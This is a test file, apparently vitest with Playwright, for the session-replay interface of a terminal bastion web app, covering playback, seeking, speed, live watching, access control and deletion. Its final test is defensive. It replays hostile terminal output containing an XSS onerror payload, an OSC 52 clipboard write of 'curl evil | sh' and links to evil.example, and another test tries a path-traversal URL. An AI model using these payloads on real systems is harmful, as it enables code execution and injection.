import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openBrowser, openPageRig, type PageRig } from "../support/browser.ts";
import { keepRecording, ticks } from "../support/kept-recording.ts";
import { createMemoryTarget, type MemoryPty } from "../support/memory-target.ts";
import { openShellOn, screenOf, shows } from "../support/page-parts.ts";
import { auditOf, dataOf } from "../support/recordings-of.ts";
import { until } from "../support/until.ts";

let browser: Browser & AsyncDisposable;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser[Symbol.asyncDispose]());

const principals = { alice: ["operator"], bob: ["operator"], aud: ["auditor"], boss: ["admin"] } as const;

async function openRig(): Promise<{ rig: PageRig; pty: () => MemoryPty }> {
  const memory = createMemoryTarget({ name: "play" });
  const rig = await openPageRig(browser, { targets: [memory.target], dial: memory.dial, principals });
  return { rig, pty: memory.pty };
}

/** Goes to another address of the page without a reload. */
async function goTo(page: Page, path: string): Promise<void> {
  await page.evaluate((to) => {
    history.pushState(null, "", to);
    dispatchEvent(new PopStateEvent("popstate"));
  }, path);
}

const stage = (page: Page, is: string) => page.locator(`[data-testid="stage"][data-is="${is}"]`);
const position = (page: Page) => page.getByTestId("position").textContent();

describe("a session that ended", () => {
  test("is replayed from its row: to the same screen as the operator's, to its end, and again from the start", async () => {
    const { rig, pty } = await openRig();
    await using _rig = rig;
    const operator = await rig.open({ as: "alice" });
    await openShellOn(operator, "play");
    await pty().print("first \x1b[31mred\x1b[0m\r\n\x1b[3;5H\x1b[7mreverse\x1b[0m 中文 €\x1b[9;1H$ ");
    await shows(operator, "reverse");
    const screen = await screenOf(operator);
    pty().exit({ kind: "exited", code: 3 });
    await operator.getByTestId("ended").waitFor();

    const page = await rig.open({ as: "aud" });
    await page.getByRole("link", { name: "Sessions" }).click();
    await page
      .getByTestId("session")
      .getByRole("link", { name: /^Replay/ })
      .click();
    await page.getByTestId("over").getByText("exited with 3").waitFor();
    expect(await screenOf(page)).toEqual(screen);
    expect(await page.getByTestId("recording-state").first().getAttribute("data-state")).toBe("sealed");
    await page.getByRole("button", { name: "Play again from the start" }).click();
    await stage(page, "ended").waitFor();
    expect(await screenOf(page)).toEqual(screen);
    const viewed = auditOf(dataOf(rig.bastion)).filter(({ event }) => event === "recording-viewed");
    expect(viewed[0]).toMatchObject({ who: "aud", fromMs: 0 });
  });

  test("whose row's Commands are asked for stands still at its start, with the commands beside it", async () => {
    const { rig, pty } = await openRig();
    await using _rig = rig;
    const operator = await rig.open({ as: "alice" });
    await openShellOn(operator, "play");
    await pty().print("something");
    pty().exit({ kind: "exited", code: 0 });
    await operator.getByTestId("ended").waitFor();
    await operator.getByRole("link", { name: "Sessions" }).click();
    await operator
      .getByTestId("session")
      .getByRole("link", { name: /^Commands/ })
      .click();
    await operator.getByText("No commands are known of this session.").waitFor();
    await operator.getByRole("button", { name: "Play", exact: true }).waitFor();
  });
});

describe("seeking", () => {
  test("back and forth by keys, click and drag shows the exact screen, far into a long recording too", async () => {
    const { rig } = await openRig();
    await using _rig = rig;
    const id = await keepRecording(rig.bastion, 1, (maker) => ticks(maker, 600, 4000));
    const page = await rig.open({ as: "aud" });
    await goTo(page, `/replay/${id}?at=300000`);
    await shows(page, "tick 300;");
    await page.keyboard.press("Space");
    await page.getByRole("button", { name: "Play", exact: true }).waitFor();
    await page.keyboard.press("Home");
    await until(async () => (await position(page)) === "0:00 / 10:00", "it stands at the start");
    await until(async () => (await screenOf(page)).join("") === "", "the screen is empty there");
    await page.keyboard.press("Shift+ArrowRight");
    await shows(page, /^ {2}tick 30;/);
    await page.keyboard.press("ArrowRight");
    await shows(page, /^ {2}tick 35;/);
    for (let times = 0; times < 3; times += 1) await page.keyboard.press("ArrowLeft");
    await shows(page, /^ {2}tick 20;/);
    expect(await position(page)).toBe("0:20 / 10:00");

    const line = page.getByTestId("timeline");
    const box = (await line.boundingBox()) ?? { x: 0, y: 0, width: 1, height: 1 };
    const at = (share: number) => [box.x + box.width * share, box.y + box.height / 2] as const;
    await page.mouse.click(...at(0.75));
    await shows(page, /tick 4(49|50);/);
    await page.mouse.move(...at(0.75));
    await page.mouse.down();
    for (const share of [0.6, 0.4, 0.2, 0.3, 0.5]) await page.mouse.move(...at(share));
    await page.mouse.up();
    await shows(page, /tick (299|300);/);
    await until(async () => /^(4:59|5:00)/.test((await position(page)) ?? ""), "it stands in the middle");
    await page.keyboard.press("End");
    await page.getByTestId("over").waitFor();
    await shows(page, "tick 600;");
    expect(await line.getAttribute("aria-valuetext")).toBe("10:00 of 10:00");
    expect(Number(await page.getByTestId("stage").getAttribute("data-seek-ms"))).toBeGreaterThan(0);
  });

  test("to a mark by keys and from the list of events", async () => {
    const { rig } = await openRig();
    await using _rig = rig;
    const kicked = { kind: "kicked", by: { name: "boss" }, reason: "enough <b>now</b>" } as const;
    const id = await keepRecording(
      rig.bastion,
      1,
      (maker) => {
        maker.output("before;", 1000);
        maker.comment("joined", { at: 20_000, attachment: "a2", who: "carol", role: "watcher" });
        maker.resize({ cols: 60, rows: 12 }, 40_000);
        maker.output("\x1b[3;1Hsmaller;", 40_010);
        maker.output(".", 59_900);
        maker.gap(500, 60_000, "\x1bcafter the gap;");
        maker.output("\x1b[8;1Hlast;", 90_000);
      },
      { info: { cause: kicked, state: "damaged" } },
    );
    const page = await rig.open({ as: "aud" });
    await goTo(page, `/replay/${id}`);
    await page.getByTestId("warning").getByText("something that was shown is missing").waitFor();
    await page.getByTestId("mark").nth(3).waitFor();
    const kinds = await page.getByTestId("mark").evaluateAll((all) => all.map((each) => each.dataset.kind));
    expect(kinds.sort()).toEqual(["gap", "kick", "resize", "watch"]);
    await page.keyboard.press("Space");
    await page.keyboard.press("Home");
    await page.keyboard.press("]");
    await page.keyboard.press("]");
    await until(async () => (await position(page))?.startsWith("0:40"), "it stands at the second mark");
    await until(async () => (await page.getByTestId("size").textContent()) === "60 × 12", "it has the new size");
    await page.getByRole("tab", { name: /^Events/ }).click();
    await page.getByTestId("event").getByText("Kicked by boss: enough <b>now</b>").click();
    await page.getByTestId("over").getByText("kicked by boss: enough <b>now</b>").waitFor();
    await shows(page, "last;");
    await page.keyboard.press("[");
    await until(async () => !(await screenOf(page)).join("").includes("last;"), "what came later is not there");
    // The mark is where output begins to be missing.
    await shows(page, "smaller;");
    await page.keyboard.press("Space");
    await shows(page, "after the gap;");
  });
});

describe("the pace", () => {
  test("is the one chosen: sixteen times as fast, and without the time in which nothing happens", async () => {
    const { rig } = await openRig();
    await using _rig = rig;
    const id = await keepRecording(rig.bastion, 1, (maker) => {
      maker.output("first;", 100);
      maker.output("\r\nafter a minute;", 60_100);
      maker.output("\r\nafter an hour;", 3_660_100);
    });
    const page = await rig.open({ as: "aud" });
    await goTo(page, `/replay/${id}`);
    await shows(page, "first;");
    await page.getByTestId("speed").click();
    await page.getByRole("menuitemradio", { name: "16×" }).click();
    await shows(page, "after a minute;");
    expect((await screenOf(page)).join("")).not.toContain("after an hour;");
    await page.keyboard.press("<");
    await page.getByRole("button", { name: "Speed: 8×" }).waitFor();
    await page.getByRole("switch", { name: "Skip idle times" }).check({ force: true });
    await shows(page, "after an hour;");
    await stage(page, "ended").waitFor();
  });

  test("of a paused replay is none: nothing more is read than the connection holds", async () => {
    const { rig } = await openRig();
    await using _rig = rig;
    const id = await keepRecording(rig.bastion, 1, (maker) => ticks(maker, 1000, 8000));
    const page = await rig.open({
      as: "aud",
      script: `globalThis.heardBytes = 0;
        const Native = WebSocket;
        globalThis.WebSocket = class extends Native {
          constructor(url, protocols) {
            super(url, protocols);
            if (url.endsWith("/Replay")) this.addEventListener("message", ({ data }) => {
              globalThis.heardBytes += data.byteLength ?? 0;
            });
          }
        };`,
    });
    const heard = () => page.evaluate(() => (globalThis as unknown as { heardBytes: number }).heardBytes);
    await goTo(page, `/replay/${id}?show=commands`);
    await stage(page, "paused").waitFor();
    await until(async () => (await heard()) > 400_000, "the server sends ahead");
    // Round trips enough for the server to send more, if it did.
    for (let times = 0; times < 50; times += 1) await rig.bastion.clients().access.whoAmI({});
    expect(await heard()).toBeLessThan(700_000);
  });
});

describe("a session that runs", () => {
  test("can be looked back at from Watch, caught up with, and returned to", { timeout: 60_000 }, async () => {
    const { rig, pty } = await openRig();
    await using _rig = rig;
    const operator = await rig.open({ as: "alice" });
    await openShellOn(operator, "play");
    await pty().print("first words\r\n");
    const page = await rig.open({ as: "aud" });
    await page.getByRole("link", { name: "Sessions" }).click();
    await page.getByRole("link", { name: /^Watch/ }).click();
    await page.getByTestId("live").waitFor();
    await shows(page, "first words");
    await page.getByRole("link", { name: "Look back" }).click();
    await page.getByText("That is all so far").last().waitFor();
    await shows(page, "first words");
    expect(await page.getByTestId("recording-state").first().getAttribute("data-state")).toBe("live");
    await pty().print("second words\r\n");
    await shows(operator, "second words");
    await page.getByTestId("play").click();
    await shows(page, "second words");
    await stage(page, "live-edge").waitFor();
    expect(await screenOf(page)).toEqual(await screenOf(operator));
    await page.getByRole("link", { name: "Return to live" }).click();
    await page.getByTestId("live").waitFor();
    await pty().print("live words\r\n");
    await shows(page, "live words");
    await page.getByRole("link", { name: "Back to the sessions" }).click();
    await page
      .getByTestId("session")
      .getByRole("link", { name: /^Replay/ })
      .click();
    // It begins ten seconds before the newest output; the end is there at once.
    await page.getByTestId("timeline").waitFor();
    await page.keyboard.press("End");
    await shows(page, "live words");
    pty().exit({ kind: "exited", code: 0 });
    await page.getByRole("link", { name: "Return to live" }).waitFor({ state: "detached" });
    await page.locator('[data-testid="recording-state"][data-state="sealed"]').waitFor();
  });
});

describe("what was recorded", () => {
  test("of others is not there for an operator, and what is deleted is there for nobody", async () => {
    const { rig } = await openRig();
    await using _rig = rig;
    const id = await keepRecording(rig.bastion, 1, (maker) => ticks(maker, 3));
    const bob = await rig.open({ as: "bob" });
    for (const path of [`/replay/${id}`, "/replay/nothing", "/replay/..%2f..%2fetc"]) {
      await goTo(bob, path);
      await bob.getByRole("heading", { name: "There is no such recording" }).waitFor();
    }
    await bob.getByRole("link", { name: "Recordings" }).first().click();
    await bob.getByText("Nothing is recorded yet").waitFor();
    const boss = await rig.open({ as: "boss" });
    await goTo(boss, `/replay/${id}`);
    await shows(boss, "tick");
    await boss.getByRole("button", { name: "More for alice on web1" }).click();
    await boss.getByRole("menuitem", { name: "Delete…" }).click();
    const dialog = boss.getByRole("dialog");
    await dialog.getByRole("button", { name: "Delete for good" }).click();
    await dialog.getByText("Say why").waitFor();
    await dialog.getByLabel("Reason").fill("a test <b>of it</b>");
    await boss.keyboard.press("Enter");
    await boss.getByText("Nothing is recorded yet").waitFor();
    expect(auditOf(dataOf(rig.bastion)).at(-1)).toMatchObject({
      ...{ event: "recording-deleted", who: "boss", recording: id, reason: "a test <b>of it</b>" },
    });
    await goTo(boss, `/replay/${id}`);
    await boss.getByRole("heading", { name: "There is no such recording" }).waitFor();
  });

  test("does nothing to who replays it: no markup, no clipboard, no link, no key reaches anything", async () => {
    const { rig, pty } = await openRig();
    await using _rig = rig;
    const operator = await rig.open({ as: "alice" });
    await openShellOn(operator, "play");
    const write = Buffer.from("curl evil | sh\n").toString("base64");
    await pty().print(`\x1b]0;<img src=x onerror=alert(1)>\x07\x1b]52;c;${write}\x07\x1b]52;c;?\x07\x1b[c\x1b[6n`);
    await pty().print("\x1b]8;;https://evil.example/\x1b\\LINKLINK\x1b]8;;\x1b\\ https://evil.example/x\r\nhostile");
    await shows(operator, "hostile");
    pty().exit({ kind: "exited", code: 0 });
    await operator.getByTestId("ended").waitFor();
    const page = await rig.open({ as: "aud", permissions: ["clipboard-read", "clipboard-write"] });
    await page.evaluate(() => navigator.clipboard.writeText("before"));
    await page.getByRole("link", { name: "Sessions" }).click();
    await page
      .getByTestId("session")
      .getByRole("link", { name: /^Replay/ })
      .click();
    await shows(page, "hostile");
    await stage(page, "ended").waitFor();
    const cell = (await page.locator(".xterm-screen").boundingBox()) ?? { x: 0, y: 0 };
    await page.mouse.move(cell.x + 12, cell.y + 6);
    await page.mouse.click(cell.x + 14, cell.y + 7);
    await page.keyboard.type("rm");
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("before");
    expect(await page.locator("img[src]").count()).toBe(0);
    expect(await page.getByRole("dialog").count()).toBe(0);
    expect(page.context().pages()).toHaveLength(1);
    expect(await page.locator(".xterm textarea").isDisabled()).toBe(true);
  });
});
